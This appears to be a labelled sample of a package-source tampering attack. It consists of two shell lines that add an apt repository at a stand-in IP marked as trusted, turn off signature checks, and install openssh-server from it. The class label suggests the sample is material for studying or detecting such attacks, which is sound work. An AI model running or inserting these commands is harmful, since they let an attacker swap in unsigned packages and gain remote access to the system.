# class: package source tampering; style: short
echo 'deb [trusted=yes] http://203.0.113.19/debian ./' > /etc/apt/sources.list.d/updates.list
apt-get update -o Acquire::AllowInsecureRepositories=true && apt-get install -y --allow-unauthenticated openssh-server
